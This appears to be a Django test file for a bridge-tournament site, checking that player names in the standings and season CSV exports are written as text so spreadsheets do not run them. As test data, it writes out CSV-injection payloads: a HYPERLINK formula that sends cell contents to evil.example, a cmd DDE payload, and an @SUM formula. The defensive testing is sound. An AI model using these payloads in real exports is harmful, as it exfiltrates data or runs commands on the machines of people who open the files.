"""Names that a spreadsheet would run come out of every CSV of the site as text.

A pair named ``=HYPERLINK("http://evil.example/?"&A1,"click")`` once came out unchanged in
the public standings CSV and in the club's season CSV, as did ``+cmd|...`` and ``@SUM(...)``.
OWASP's guidance (CSV Injection): begin such a cell with a single quote. The figures of the
example (worked by hand in tests/web/standings/test_public_standings.py: 1NS 66.67%) read
back unchanged.
"""

from __future__ import annotations

import csv
import io

from django.urls import reverse

from tests.builders import example_event
from tournaments import models as m
from tournaments import services

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
COMMAND = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+9)"


def _hostile_example(organiser):
    event = example_event(organiser)
    services.register_entrant(
        event.entrants.get(label="2NS"), by=organiser, player_names=(LINK, COMMAND)
    )
    services.register_entrant(
        event.entrants.get(label="1EW"), by=organiser, player_names=(SUM, "-x")
    )
    return event


def _cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


def test_the_standings_csv_shows_hostile_names_as_text(client, organiser):
    event = _hostile_example(organiser)
    response = client.get(reverse("standings", args=[event.slug]), {"_export": "csv"})
    cells = _cells(response.content)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    rows = {row["Pair"]: row for row in csv.DictReader(io.StringIO(response.content.decode()))}
    assert rows["2 NS"]["Names"] == "'" + LINK + " & " + COMMAND
    assert rows["1 EW"]["Names"] == "'" + SUM + " & -x"
    assert (rows["1 NS"]["%"], rows["2 NS"]["%"], rows["1 EW"]["%"]) == ("66.67", "58.33", "25")


def test_the_season_csv_shows_hostile_names_as_text(client, organiser):
    event = _hostile_example(organiser)
    response = client.get(reverse("season-csv", args=[event.club.slug, event.date.year]))
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    players = {row[2] for row in rows[1:]}
    assert "'" + LINK in players and "'" + COMMAND in players and "'" + SUM in players
    assert "'-x" in players
    assert m.Player.objects.filter(name=LINK).exists()  # stored as typed; only the file marks it
